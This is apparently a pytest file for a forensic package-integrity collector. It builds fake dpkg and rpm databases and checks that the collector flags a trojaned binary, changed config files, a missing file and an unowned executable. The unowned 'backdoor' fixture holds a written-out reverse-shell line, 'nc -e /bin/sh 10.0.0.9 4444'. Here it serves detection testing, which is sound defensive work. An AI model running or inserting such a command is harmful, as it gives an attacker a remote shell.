"""Package integrity read from the package databases of a fake root: a trojaned binary against dpkg's
md5sums, a changed configuration file told apart, a missing file, an rpm sqlite database decoded here,
and an executable in PATH that no package owns."""
from __future__ import annotations

import hashlib
import os
import sqlite3
import struct

from collectors.artifacts.package_integrity import (
    IntegritySummary,
    PackageFileCheck,
    PackageIntegrity,
    UnownedExecutable,
    parse_rpm_header,
)

GOOD = b"\x7fELF original coreutils ls\n"
EVIL = b"\x7fELF trojaned ls that hides files\n"


def md5(b: bytes) -> str:
    return hashlib.md5(b).hexdigest()


def dpkg_root(root):
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc/ssh").mkdir(parents=True)
    (root / "usr/bin/ls").write_bytes(EVIL)
    (root / "usr/bin/cat").write_bytes(b"cat binary")
    (root / "usr/bin/backdoor").write_bytes(b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n")
    for n in ("ls", "cat", "backdoor"):
        os.chmod(root / "usr/bin" / n, 0o755)
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
    (info / "coreutils.md5sums").write_text(
        f"{md5(GOOD)}  usr/bin/ls\n{md5(b'cat binary')}  usr/bin/cat\n{md5(b'gone')}  usr/bin/gone\n")
    (info / "coreutils.list").write_text("/usr\n/usr/bin\n/usr/bin/ls\n/usr/bin/cat\n/usr/bin/gone\n")
    (info / "openssh-server.list").write_text("/etc/ssh/sshd_config\n")
    (root / "var/lib/dpkg/status").write_text(
        "Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\n\n"
        "Package: openssh-server\nStatus: install ok installed\nConffiles:\n"
        f" /etc/ssh/sshd_config {md5(b'PermitRootLogin no' + bytes([10]))}\n /etc/ssh/moduli obsolete\n"
        "Version: 1:9.2p1-2\n")


def test_dpkg_trojan_config_missing_unowned(tmp_path, run):
    root = tmp_path / "root"
    dpkg_root(root)
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    ls = rows["/usr/bin/ls"]
    assert (ls.status, ls.config, ls.package, ls.expected, ls.actual) == (
        "changed", False, "coreutils", md5(GOOD), md5(EVIL))
    assert ls.sha256 == hashlib.sha256(EVIL).hexdigest()
    assert rows["/etc/ssh/sshd_config"].status == "changed" and rows["/etc/ssh/sshd_config"].config is True
    assert rows["/usr/bin/gone"].status == "missing"
    assert "/usr/bin/cat" not in rows  # matches its digest
    (summary,) = ran.rows("package_integrity_summary.json", IntegritySummary)
    assert (summary.files_checked, summary.matched, summary.changed, summary.config_changed, summary.missing) == \
        (4, 1, 1, 1, 1)
    unowned = {u.path: u for u in ran.rows("unowned_executables.json", UnownedExecutable)}
    assert set(unowned) == {"/usr/bin/backdoor"}
    assert unowned["/usr/bin/backdoor"].sha256 == hashlib.sha256(
        b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n").hexdigest()


def rpm_header(tags: dict[int, tuple[int, object]]) -> bytes:
    """An rpm header blob as rpmdb.sqlite stores it (tag -> (type, value))."""
    index, data = [], b""
    for tag, (typ, val) in sorted(tags.items()):
        if typ == 4:
            while len(data) % 4:
                data += b"\0"
        off = len(data)
        if typ == 6:
            data += val.encode() + b"\0"
            cnt = 1
        elif typ == 8:
            data += b"".join(v.encode() + b"\0" for v in val)
            cnt = len(val)
        else:
            data += struct.pack(f">{len(val)}I", *val)
            cnt = len(val)
        index.append(struct.pack(">IIiI", tag, typ, off, cnt))
    return struct.pack(">II", len(index), len(data)) + b"".join(index) + data


def test_rpm_sqlite_database(tmp_path, run):
    root = tmp_path / "root"
    (root / "usr/bin").mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "usr/bin/sshd").write_bytes(b"patched sshd with a master password")
    (root / "etc/sshd_config").write_text("changed\n")
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    blob = rpm_header({1000: (6, "openssh-server"), 1116: (4, [0, 1]), 1117: (8, ["sshd", "sshd_config"]),
                       1118: (8, ["/usr/bin/", "/etc/"]), 1035: (8, [sha(b"real sshd"), sha(b"orig\n")]),
                       1037: (4, [0, 1]), 5011: (4, [8])})
    assert parse_rpm_header(blob)[1117] == ["sshd", "sshd_config"]
    con = sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")
    con.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    con.execute("INSERT INTO Packages (blob) VALUES (?)", (blob,))
    con.commit()
    con.close()
    before = sorted(os.listdir(root / "var/lib/rpm"))
    ran = run(PackageIntegrity(), root=root)
    rows = {r.path: r for r in ran.rows("package_files.json", PackageFileCheck)}
    assert rows["/usr/bin/sshd"].status == "changed" and rows["/usr/bin/sshd"].algorithm == "sha256"
    assert rows["/usr/bin/sshd"].actual == sha(b"patched sshd with a master password")
    assert rows["/etc/sshd_config"].config is True
    assert sorted(os.listdir(root / "var/lib/rpm")) == before  # no -wal/-shm written beside the evidence
